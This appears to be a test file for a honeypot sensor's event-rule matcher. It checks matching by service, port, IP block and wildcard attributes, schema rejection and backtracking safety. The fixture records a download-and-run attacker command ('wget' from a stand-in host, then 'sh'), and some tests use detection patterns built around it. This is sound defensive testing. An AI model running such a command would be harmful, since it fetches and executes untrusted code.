import { describe, expect, it } from "vitest"
import type { SensorEvent } from "./event.ts"
import { compileEventRules, eventRulesSchema } from "./event-rule.ts"

const event: SensorEvent = {
  id: "01890000-0000-7000-8000-000000000000",
  time: 0,
  sensor: "s",
  session: "01890000-0000-7000-8000-000000000001",
  seq: 0,
  protocol: "TCP",
  event: "RX",
  service: "SSH.2222",
  emulator: "ssh",
  localHost: "10.0.0.1",
  localPort: 2222,
  remoteHost: "203.0.113.9",
  remotePort: 4000,
  bytes: 0,
  data: new Uint8Array(0),
  sha256: "",
  attributes: { username: "root", command: "cd /tmp; wget http://a/*; sh x" },
}
const fits = (rules: unknown, changes: Partial<SensorEvent> = {}) =>
  compileEventRules(eventRulesSchema.parse(rules))({ ...event, ...changes })

describe("event rules", () => {
  it.each([
    ["nothing", {}, true],
    ["the service", { services: ["SSH.2222"] }, true],
    ["another service", { services: ["SSH", "Telnet"] }, false],
    ["a service by wildcard", { services: ["Telnet", "SSH*"] }, true],
    ["a dot is a dot", { services: ["SSHx*"] }, false],
    ["the event", { events: ["CONNECT", "RX"] }, true],
    ["another event", { events: ["TX"] }, false],
    ["the protocol", { protocols: ["UDP"] }, false],
    ["the port", { localPorts: [22, 2222] }, true],
    ["the source", { sources: ["203.0.113.9"] }, true],
    ["a block", { sources: ["198.51.100.0/24", "203.0.112.0/23"] }, true],
    ["another block", { sources: ["203.0.114.0/24", "2001:db8::/32"] }, false],
    ["an attribute", { attributes: { username: "root" } }, true],
    ["an attribute's beginning is not all", { attributes: { username: "roo" } }, false],
    ["one of a list", { attributes: { username: ["admin", "root"] } }, true],
    ["an attribute that is not there", { attributes: { password: "*" } }, false],
    ["an attribute that is there", { attributes: { command: "*" } }, true],
    ["wildcards", { attributes: { command: "*wget *sh*" } }, true],
    ["wildcards in order", { attributes: { command: "*sh x*wget*" } }, false],
    ["a star of its own", { attributes: { command: "*a/\\*;*" } }, true],
    ["parts that would overlap", { attributes: { username: "ro*oot" } }, false],
    ["all conditions", { services: ["SSH*"], events: ["RX"], attributes: { username: "root" } }, true],
    ["all conditions but one", { services: ["SSH*"], events: ["TX"] }, false],
    ["any of several rules", [{ events: ["TX"] }, { services: ["SSH*"] }], true],
    ["none of several rules", [{ events: ["TX"] }, { services: ["X"] }], false],
    ["no rule at all", [], false],
  ])("fit or not: %s", (_, rules, expected) => expect(fits(rules)).toBe(expected))

  it("take IPv6 addresses and blocks in any spelling", () => {
    const remoteHost = "2001:db8::7"
    expect(fits({ sources: ["2001:0DB8:0:0::7"] }, { remoteHost })).toBe(true)
    expect(fits({ sources: ["2001:db8::/64"] }, { remoteHost })).toBe(true)
    expect(fits({ sources: ["::ffff:203.0.113.9"] })).toBe(true)
  })

  it("do not find what JavaScript's objects have of their own", () => {
    expect(fits({ attributes: { username: "*" } }, { attributes: {} })).toBe(false)
    expect(eventRulesSchema.safeParse({ attributes: { constructor: "*" } }).success).toBe(false)
  })

  it.each([
    { services: [] },
    { sources: ["example.com"] },
    { sources: ["10.0.0.0/33"] },
    { events: ["rx"] },
    { attributes: { nonsense: "x" } },
    { service: "SSH" },
  ])("refuse %j", (rules) => expect(eventRulesSchema.safeParse(rules).success).toBe(false))

  it("answer for hostile text without going back", () => {
    const text = "a".repeat(8_000)
    const pattern = `${"*a".repeat(400)}*b`
    expect(fits({ attributes: { command: pattern } }, { attributes: { command: text } })).toBe(false)
  })
})
